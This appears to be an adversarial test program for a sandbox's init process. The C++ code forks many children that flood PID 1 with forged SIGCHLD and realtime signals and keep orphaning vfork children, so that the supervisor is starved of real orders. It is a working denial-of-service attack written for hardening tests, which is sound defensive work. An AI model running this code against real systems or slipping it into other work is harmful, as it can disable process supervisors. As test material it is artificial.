// tries: to flood PID 1 with forged reports of dead children and with real ones, so that it never hears an order
// status: time_limit_exceeded
// limits: {"cpu_time_ms": 1000, "wall_time_ms": 3000}
// beside: innocent
#include <csignal>
#include <cstring>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main() {
    signal(SIGCHLD, SIG_IGN);
    for (int i = 0; i < 30; i++)
        if (fork() == 0)
            for (;;) {
                siginfo_t info{};
                info.si_signo = SIGCHLD;
                info.si_code = SI_QUEUE;
                info.si_pid = 2;
                info.si_status = 0;
                syscall(SYS_rt_sigqueueinfo, 1, SIGCHLD, &info);
                for (int number = SIGRTMIN; number <= SIGRTMAX; number++) syscall(SYS_rt_sigqueueinfo, 1, number, &info);
                // Its child becomes PID 1's.
                if (vfork() == 0) _exit(0);
            }
    pause();
}
